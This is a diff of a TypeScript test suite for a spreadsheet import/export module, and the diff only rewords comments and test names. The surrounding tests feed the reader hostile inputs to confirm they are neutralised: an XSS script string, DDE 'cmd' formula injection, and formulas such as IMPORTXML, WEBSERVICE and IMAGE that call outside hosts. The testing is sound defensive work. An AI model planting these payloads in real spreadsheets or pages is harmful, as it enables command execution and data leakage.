@@ -57,10 +57,10 @@ const second: StoredSheet = {
 const cellOf = (sheet: StoredSheet | undefined, row: number, column: number) =>
   (sheet?.rows?.[row] as { cells?: Record<string, StoredCell> } | undefined)?.cells?.[column]
 
-// px: the files of LibreOffice were made of ours when those said 25 letters, which are 175 px, for 180 px
+// px: the LibreOffice files were made from ours when those had 25 characters, which are 175 px, for 180 px
 const widthInFiles = 175
 
-/** Everything that a file must bring back of the two sheets above. */
+/** Everything of the two sheets above that must survive a file. */
 function expectPrices(sheets: StoredSheet[], freeze: string, width = 180): void {
   expect(sheets.map(({ name }) => name)).toEqual(['Prices', '表2'])
   const [one, two] = sheets
@@ -95,23 +95,23 @@ function expectPrices(sheets: StoredSheet[], freeze: string, width = 180): void 
   expect(cellOf(two, 0, 1)?.text).toMatch(/^=(\$?Prices[!.])?/)
 }
 
-test('a book comes back from its own file as it was', () => {
+test('a book survives its own file unchanged', () => {
   const { bytes, notes } = writeXlsx([prices, second])
   expect(notes).toEqual({ cut: 0, neutralised: 0 })
   expectPrices(readXlsx(bytes).sheets, 'B2')
 })
 
-test('a file that LibreOffice wrote of that book brings it back', () => {
+test('reads the book back from a LibreOffice file', () => {
   // without a window it writes no frozen panes
   const file = new Uint8Array(readFileSync('tests/fixtures/sheet/libreoffice.xlsx'))
   expectPrices(readXlsx(file).sheets, 'A1', widthInFiles)
 })
 
-test('panes that LibreOffice froze are frozen here, and in our own file of it', () => {
+test('keeps panes that LibreOffice froze, also in our own file', () => {
   const { sheets } = readXlsx(new Uint8Array(readFileSync('tests/fixtures/sheet/libreoffice-frozen.xlsx')))
   expectPrices(sheets.slice(0, 2), 'B3', widthInFiles)
   expect(sheets.map(({ freeze }) => freeze)).toEqual(['B3', 'A2', 'C1'])
-  // 0.1 + 0.2 as LibreOffice has reckoned it
+  // 0.1 + 0.2 as LibreOffice calculates it
   expect(cellOf(sheets[2], 5, 3)).toEqual({ text: '=0.1+0.2', shown: '0.3', value: 0.3 })
   const again = readXlsx(writeXlsx(sheets).bytes).sheets
   expect(again.map(({ freeze }) => freeze)).toEqual(['B3', 'A2', 'C1'])
@@ -130,7 +130,7 @@ const refusalOf = (bytes: Uint8Array): string => {
   }
 }
 
-/** What a person is told, in both languages. */
+/** The message in both languages. */
 const wordsFor = (bytes: Uint8Array): [en: string, zh: string] => {
   const reason = refusalOf(bytes) as FileErrorReason
   return [en.import.refused[reason], zh.import.refused[reason]]
@@ -140,7 +140,7 @@ const contentTypes =
   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
 const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
 
-/** A file in the shape that Excel writes, with this inside of its only sheet. */
+/** A file in the format of Excel, with this inside its only sheet. */
 function fileOf(sheetXml: string, more: Record<string, Uint8Array> = {}): Uint8Array {
   const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
   return zipSync({
@@ -159,7 +159,7 @@ function fileOf(sheetXml: string, more: Record<string, Uint8Array> = {}): Uint8A
   })
 }
 
-test('what is no spreadsheet, or means harm, is refused by its reason', () => {
+test('rejects what is no spreadsheet, or malicious, with its reason', () => {
   expect(refusalOf(new Uint8Array())).toBe('empty')
   expect(refusalOf(strToU8('hello'))).toBe('notXlsx')
   expect(refusalOf(zipSync({ 'a.txt': strToU8('x') }))).toBe('notXlsx')
@@ -184,7 +184,7 @@ test('what is no spreadsheet, or means harm, is refused by its reason', () => {
   ])
 })
 
-test('every reason has words of its own in both languages', () => {
+test('every reason has its own message in both languages', () => {
   for (const { import: words } of [en, zh]) {
     const all = Object.values(words.refused)
     expect(new Set(all).size).toBe(all.length)
@@ -194,7 +194,7 @@ test('every reason has words of its own in both languages', () => {
   expect(limits.book).toBe(sheetMaxBytes)
 })
 
-test('what a file brings along to run, or to reach out, is not read: macros, links, embedded things, names', () => {
+test('ignores active and external content: macros, links, embedded objects, names', () => {
   const script = '<img src=x onerror=alert(1)><script>alert(1)</script>'
   const file = readXlsx(
     fileOf(
@@ -216,7 +216,7 @@ test('what a file brings along to run, or to reach out, is not read: macros, lin
   )
 })
 
-test('formulas that reach outside stand as their last values; others stay', () => {
+test('replaces formulas with external references by their last values and keeps others', () => {
   for (const formula of [
     "cmd|' /C calc'!A0",
     'DDE("a","b","c")',
@@ -226,7 +226,7 @@ test('formulas that reach outside stand as their last values; others stay', () =
     "'\\\\server\\f'!A1",
     'IMPORTXML("http://x","//a")',
     '_xlfn.IMAGE("http://x/"&A1)',
-    // a quote inside of a sheet's name hides nothing
+    // a quote inside a sheet name hides nothing
     `'a"'!A1+cmd|' /C calc'!A0&"x"`,
     `'it''s "'!A1&WEBSERVICE(A1)&"x"`,
   ])
@@ -242,7 +242,7 @@ test('formulas that reach outside stand as their last values; others stay', () =
   expect([0, 1, 2].map((at) => cellOf(file.sheets[0], 0, at)?.text)).toEqual(['5', '7', '=1+1'])
 })
 
-test('a size that a file only claims costs nothing; text of 32 KB, 50 sheets and odd letters are kept', () => {
+test('a merely claimed size costs nothing; 32 KB texts, 50 sheets and unusual characters are kept', () => {
   const huge = readXlsx(
     fileOf('<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>'),
   )
@@ -262,7 +262,7 @@ test('a size that a file only claims costs nothing; text of 32 KB, 50 sheets and
   expect(writeXlsx([{ rows: { 0: { cells: { 0: { text: 'x'.repeat(40_000) } } } } }]).notes.cut).toBe(1)
 })
 
-test('the thread answers with a file, a table, or a reason', () => {
+test('the worker returns a file, a table, or a reason', () => {
   const ask = (question: Parameters<typeof handleFileRequest>[0]) => {
     const words: FileMessage[] = []
     handleFileRequest(question, (word) => words.push(word))
@@ -292,7 +292,7 @@ test('the thread answers with a file, a table, or a reason', () => {
   expect(text).toContain('12.50%')
 })
 
-test('imported sheets take the place of the others, or stand after them under free names', () => {
+test('imported sheets replace the others, or follow them under free names', () => {
   expect(importedBook([prices], [second], 'replace')).toEqual([second])
   expect(importedBook([prices], [prices, prices], 'add').map(({ name }) => name)).toEqual([
     'Prices',
